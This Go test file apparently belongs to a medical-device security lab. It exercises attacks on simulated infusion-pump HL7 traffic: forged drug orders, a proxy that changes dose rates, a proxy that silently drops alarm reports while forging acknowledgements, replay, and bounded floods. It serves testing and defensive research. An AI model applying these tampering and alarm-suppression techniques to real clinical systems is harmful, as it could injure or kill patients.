package attack

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"math/big"
	"net"
	"testing"
	"time"

	"github.com/pumplab/pumplab/simulators/hl7"
)

func TestForgeRGV(t *testing.T) {
	m := ForgeRGV(ForgedOrder{PumpID: "PUMP-0042", DrugCode: "HEP-25K-250", DrugText: "Heparin 25,000 units/250 mL",
		DoseRate: 0.15, DrugUnit: "units", DrugAmount: 25000, ControlID: "ATK10-1"})
	r, err := hl7.ParseRGV(m)
	if err != nil {
		t.Fatalf("forged order does not parse as PCD-03: %v\n%s", err, m)
	}
	if r.PumpID != "PUMP-0042" || r.GiveCode != "HEP-25K-250" || r.DoseRate != 0.15 || r.DoseRateUnit != "mcg/kg/min" ||
		r.DrugAmount != 25000 || r.Header.ControlID != "ATK10-1" || r.PlacerOrder != "ADM-778899" || r.WeightKg != 70 {
		t.Errorf("forged order = %+v", r)
	}
	// The zero value is REFERENCE.md §4.8(a): same segments and fields as
	// the layout (the optional PV1 location, DOB and profile aside).
	d := ForgeRGV(ForgedOrder{})
	for path, want := range map[string]string{"MSH-3": "BCMA_SIM", "MSH-9": "RGV^O15^RGV_O15", "MSH-10": "BCMA000123",
		"ORC-1": "RE", "ORC-2": "ADM-778899^BCMA_SIM", "RXG-4": "NOREPI-4-250^Norepinephrine 4 mg/250 mL^HOSPFORM",
		"RXG-5": "250", "RXG-15": "0.05", "RXG-16": "265619^MDC_DIM_MICRO_G_PER_KG_PER_MIN^MDC", "RXG-17": "4", "RXG-23": "250",
		"OBX(1)-18": "^^PUMP-0007^HOSP", "OBX(2)-5": "70", "MSH-7": "20250301101500-0500"} {
		if got := d.Field(path); hl7.DefaultDelimiters.EncodeField(got) != want {
			t.Errorf("default %s = %q, want %q", path, hl7.DefaultDelimiters.EncodeField(got), want)
		}
	}
}

// TestForgedOrderAndTLS sends a forged order to a plain and a TLS server
// and reads the acks.
func TestForgedOrderAndTLS(t *testing.T) {
	ctx := testCtx(t)
	sink := startHL7(t, nil)
	reply, err := SendHL7(ctx, nil, sink.srv.Addr(), nil, ForgeRGV(ForgedOrder{DoseRate: 0.15}))
	if err != nil {
		t.Fatal(err)
	}
	if ack, err := hl7.ParseAck(reply); err != nil || ack.Code != hl7.AckCA || ack.AckedID != "BCMA000123" {
		t.Fatalf("ack = %+v, %v", ack, err)
	}
	if got := sink.messages()[0].Get("RXG-15"); got != "0.15" {
		t.Fatalf("server saw RXG-15 %q", got)
	}

	cert, pool := selfSigned(t)
	tsrv := hl7.New(hl7.Config{TLS: &tls.Config{Certificates: []tls.Certificate{cert}}})
	if err := tsrv.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer tsrv.Close()
	_, port, _ := net.SplitHostPort(tsrv.Addr())
	reply, err = SendHL7(ctx, nil, "localhost:"+port, &tls.Config{RootCAs: pool}, ForgeRGV(ForgedOrder{}))
	if err != nil {
		t.Fatalf("TLS send: %v", err)
	}
	if ack, _ := hl7.ParseAck(reply); !ack.OK() {
		t.Fatalf("TLS ack %+v", ack)
	}
	// Without the CA the handshake fails and says so.
	if _, err := SendHL7(ctx, nil, "localhost:"+port, &tls.Config{}, ForgeRGV(ForgedOrder{})); err == nil {
		t.Fatal("TLS send to an unknown CA succeeded")
	}
}

func selfSigned(t *testing.T) (tls.Certificate, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "localhost"},
		DNSNames: []string{"localhost"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := x509.ParseCertificate(der)
	pool := x509.NewCertPool()
	pool.AddCert(c)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pool
}

// TestMLLPProxyTampersRXG15 is ATK-11: the proxy multiplies the dose rate
// and the server sees the changed value; the client's ack still comes back.
func TestMLLPProxyTampersRXG15(t *testing.T) {
	ctx := testCtx(t)
	sink := startHL7(t, nil)
	p := NewMLLPProxy(MLLPProxyConfig{Upstream: sink.srv.Addr(), Tamper: func(dir Direction, m *hl7.Message) (*hl7.Message, bool) {
		if dir == ToServer && m.Type().Is("RGV", "O15") {
			if err := m.Set("RXG-15", "0.5"); err != nil {
				t.Error(err)
			}
			return m, false
		}
		return nil, false
	}})
	if err := p.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	reply, err := SendHL7(ctx, nil, p.Addr(), nil, ForgeRGV(ForgedOrder{}))
	if err != nil {
		t.Fatal(err)
	}
	if ack, _ := hl7.ParseAck(reply); ack.AckedID != "BCMA000123" || !ack.OK() {
		t.Fatalf("ack through proxy: %s", reply)
	}
	got := sink.waitN(t, ctx, 1)
	if v := got[0].Get("RXG-15"); v != "0.5" {
		t.Fatalf("server saw RXG-15 = %q, want the tampered 0.5", v)
	}
	st := p.Stats()
	if st.Changed != 1 || st.Forwarded != 2 || st.Dropped != 0 || st.Connections != 1 {
		t.Fatalf("stats = %+v, want 1 changed of 2 forwarded (order, ack)", st)
	}
	fr := p.Frames()
	if len(fr) != 2 || fr[0].Dir != ToServer || !fr[0].Changed || fr[1].Dir != ToClient || fr[1].Changed || fr[0].Time.IsZero() {
		t.Fatalf("frames = %+v", fr)
	}
	if m, _ := hl7.Parse(fr[0].Data); m.Get("RXG-15") != "0.05" {
		t.Fatal("captured frame is not the original")
	}
	if m, _ := hl7.Parse(fr[0].Sent); m.Get("RXG-15") != "0.5" {
		t.Fatal("captured Sent is not the tampered message")
	}
}

// alert builds a PCD-04 alarm report.
func alert(id string) *hl7.Message {
	return hl7.BuildAlert(hl7.Alert{
		Header: hl7.Header{SendingApp: hl7.HD{Namespace: "PUMPSRV_SIM"}, ReceivingApp: hl7.HD{Namespace: "AM_SIM"},
			Time: time.Date(2025, 3, 1, 11, 31, 0, 0, time.UTC), ControlID: id, AcceptAck: "AL", AppAck: "NE"},
		AlertID: "ALR-" + id, OnsetTime: time.Date(2025, 3, 1, 11, 31, 0, 0, time.UTC), PumpID: "PUMP-0007",
		Event: hl7.MDCEvtLineOccl, EventText: "Occlusion downstream", Phase: hl7.PhaseStart, State: hl7.StateActive,
		Priority: "PH", Type: "SP",
	})
}

// TestMLLPProxyDropsPCD04 is ATK-25: the proxy swallows every ORU^R40 and
// forges the accept ack; other messages pass. The alarm manager sees none.
func TestMLLPProxyDropsPCD04(t *testing.T) {
	ctx := testCtx(t)
	am := startHL7(t, nil)
	p := NewMLLPProxy(MLLPProxyConfig{Upstream: am.srv.Addr(), Tamper: func(dir Direction, m *hl7.Message) (*hl7.Message, bool) {
		return nil, dir == ToServer && m.Type().Is("ORU", "R40")
	}})
	if err := p.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	for _, id := range []string{"A1", "A2", "A3"} {
		reply, err := SendHL7(ctx, nil, p.Addr(), nil, alert(id))
		if err != nil {
			t.Fatal(err)
		}
		ack, err := hl7.ParseAck(reply)
		if err != nil || ack.Code != hl7.AckCA || ack.AckedID != id {
			t.Fatalf("forged ack for %s = %+v, %v", id, ack, err)
		}
	}
	// A message that is not PCD-04 passes: when it arrives, the alarms
	// before it on the same path would have too.
	if _, err := SendHL7(ctx, nil, p.Addr(), nil, ForgeRGV(ForgedOrder{ControlID: "MARK"})); err != nil {
		t.Fatal(err)
	}
	got := am.waitN(t, ctx, 1)
	for _, m := range got {
		if m.Type().Is("ORU", "R40") {
			t.Fatalf("alarm manager received a PCD-04: %s", m)
		}
	}
	if len(got) != 1 || got[0].ControlID() != "MARK" {
		t.Fatalf("alarm manager received %d messages", len(got))
	}
	if st := p.Stats(); st.Dropped != 3 || st.Forged != 3 || st.Forwarded != 2 {
		t.Fatalf("stats = %+v, want 3 dropped, 3 forged acks, 2 forwarded", st)
	}
	if st := am.srv.Stats(); st.Received != 1 {
		t.Fatalf("server stats %+v, want 1 frame received", st)
	}
}

// TestCaptureReplay is ATK-15: capture an order through the proxy, replay
// it later; the server receives the same bytes again.
func TestCaptureReplay(t *testing.T) {
	ctx := testCtx(t)
	sink := startHL7(t, nil)
	p := NewMLLPProxy(MLLPProxyConfig{Upstream: sink.srv.Addr()})
	if err := p.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	orig := ForgeRGV(ForgedOrder{OrderControl: hl7.OrderBolus, ControlID: "BCMA000200"})
	if _, err := SendHL7(ctx, nil, p.Addr(), nil, orig); err != nil {
		t.Fatal(err)
	}
	frames := p.Frames()
	if len(frames) != 2 || p.Stats().Changed != 0 || !bytes.Equal(frames[0].Data, frames[0].Sent) {
		t.Fatalf("capture = %+v", frames)
	}
	var rec Memory
	var replies [][]byte
	err := Do(ctx, &rec, Step{ScenarioID: "ATK-15", StepID: "ATK-15/1", Techniques: []string{"T0855", "T0830"},
		Assets: []string{"PUMP-0007", sink.srv.Addr()}}, func(ctx context.Context) error {
		var err error
		replies, err = Replay(ctx, nil, frames, sink.srv.Addr())
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(replies) != 1 {
		t.Fatalf("%d replies, want 1 (only the client's frame is replayed)", len(replies))
	}
	got := sink.waitN(t, ctx, 2)
	sink.mu.Lock()
	first, second := sink.raw[0], sink.raw[1]
	sink.mu.Unlock()
	if !bytes.Equal(first, second) || !bytes.Equal(second, orig.Bytes()) || got[1].ControlID() != "BCMA000200" {
		t.Fatalf("replayed message differs:\n%q\n%q", first, second)
	}
	if ack, _ := hl7.ParseAck(mustParse(t, replies[0])); ack.AckedID != "BCMA000200" {
		t.Fatalf("replay reply %q", replies[0])
	}
	corr := rec.Steps()[0].Correlation
	if len(corr) != 2 || corr[1] != "hl7:BCMA000200" {
		t.Fatalf("correlation = %q, want the 5-tuple and the control id", corr)
	}
	if _, err := Replay(ctx, nil, frames[1:], sink.srv.Addr()); err == nil {
		t.Fatal("replay of server frames only succeeded")
	}
}

func mustParse(t *testing.T, b []byte) *hl7.Message {
	t.Helper()
	m, err := hl7.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestFloodMLLPBounds(t *testing.T) {
	ctx := testCtx(t)
	sink := startHL7(t, nil)
	msg := func(i int) []byte { return ForgeRGV(ForgedOrder{ControlID: "FLOOD" + string(rune('A'+i%26))}).Bytes() }
	r, err := FloodMLLP(ctx, nil, sink.srv.Addr(), nil, FloodMessages, msg, FloodLimits{Count: 40, Duration: 20 * time.Second})
	if err != nil || r.Sent != 40 || r.Stopped != StopCount {
		t.Fatalf("message flood = %+v, %v; want 40 sent, stopped by count", r, err)
	}
	if n := len(sink.waitN(t, ctx, 40)); n != 40 {
		t.Fatalf("server received %d, want 40", n)
	}
	r, err = FloodMLLP(ctx, nil, sink.srv.Addr(), nil, FloodConnections, msg, FloodLimits{Count: 15, Duration: 20 * time.Second})
	if err != nil || r.Sent != 15 || r.Stopped != StopCount {
		t.Fatalf("connection flood = %+v, %v", r, err)
	}
	if n := len(sink.waitN(t, ctx, 55)); n < 55 {
		t.Fatalf("server received %d, want 55", n)
	}

	// The duration bound: a server that never answers holds the first
	// message; the flood ends at its duration, far below its count.
	block := make(chan struct{})
	defer close(block)
	stuck := startHL7(t, func(ctx context.Context, _ *hl7.Message, _ hl7.ConnMeta) (*hl7.Message, error) {
		select {
		case <-block:
		case <-ctx.Done():
		}
		return nil, nil
	})
	r, err = FloodMLLP(ctx, nil, stuck.srv.Addr(), nil, FloodMessages, msg, FloodLimits{Count: 1000, Duration: 200 * time.Millisecond})
	if err != nil || r.Stopped != StopDuration || r.Sent != 0 {
		t.Fatalf("flood against a stuck server = %+v, %v; want stopped by duration with nothing acknowledged", r, err)
	}

	for _, lim := range []FloodLimits{{}, {Count: 10}, {Duration: time.Second}, {Count: MaxFloodCount + 1, Duration: time.Second},
		{Count: 1, Duration: MaxFloodDuration + time.Second}, {Count: -1, Duration: time.Second}} {
		if _, err := FloodMLLP(ctx, nil, sink.srv.Addr(), nil, FloodMessages, msg, lim); err == nil {
			t.Errorf("limits %+v accepted", lim)
		}
	}
	// A refused target stays refused whatever the limits.
	if _, err := FloodMLLP(ctx, nil, "192.0.2.1:2575", nil, FloodMessages, msg, FloodLimits{Count: 1, Duration: time.Second}); !errors.Is(err, ErrRefused) {
		t.Errorf("flood to 192.0.2.1: %v", err)
	}
}
